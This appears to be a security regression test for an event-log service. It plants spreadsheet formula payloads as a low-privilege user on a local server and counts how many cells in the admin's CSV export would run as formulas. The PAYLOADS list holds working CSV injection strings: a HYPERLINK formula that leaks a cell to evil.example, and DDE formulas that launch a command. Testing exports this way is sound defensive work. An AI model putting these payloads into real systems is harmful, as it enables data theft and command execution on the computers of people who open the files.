#!/usr/bin/env python3
"""Issue 12, item 6: a user key stores formulas; an admin opens the CSV export.

With a user key (mallory), appends one event per payload below (in the
description, comments, request_id and files) and, as the admin, downloads
GET /events/export?format=csv and runs `evlog query --format csv`. Counts
the cells a spreadsheet would evaluate (text beginning with =, +, -, @, tab
or CR). Bounded: one server on 127.0.0.1, a dozen events.

    scripts/hostile/csv_injection.py [--evlog target/debug/evlog]
"""

import csv
import io

from evlog_server import Server, args, version

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live_formulas(text):
    rows = list(csv.reader(io.StringIO(text, newline="")))
    head = rows[0]
    cells = [c for row in rows[1:] for name, c in zip(head, row)
             if name not in ("duration_ms", "timestamp", "id", "seq", "hash")]
    return sum(c.startswith(TRIGGERS) for c in cells), len(rows) - 1


def main():
    a = args(__doc__)
    print(f"evlog: {version(a.evlog)}")
    with Server(a.evlog) as s:
        mallory = s.add_key("user", "mallory")
        s.append([{"event_type": "commit", "status": "success", "user_id": "mallory",
                   "action_description": p, "comments": p, "request_id": p,
                   "files_changed": [p]} for p in PAYLOADS], key=mallory)
        s.caught_up()
        status, body = s.request("GET", "/events/export?format=csv&user_id=mallory", s.admin)
        assert status == 200, status
        live, rows = live_formulas(body.decode())
        print(f"HTTP export: {rows} rows, {live} cells a spreadsheet would run as formulas")
    # The CLI on the same kind of store, without a server.
    with Server(a.evlog) as s:
        s.append([{"event_type": "commit", "status": "success", "user_id": "mallory",
                   "action_description": p, "comments": p, "request_id": p,
                   "files_changed": [p]} for p in PAYLOADS])
        s.shutdown()
        out = s.cli("query", "--user-id", "mallory", "--format", "csv")
        live, rows = live_formulas(out.stdout.decode())
        print(f"evlog query --format csv: {rows} rows, {live} cells a spreadsheet would run as formulas")


if __name__ == "__main__":
    main()
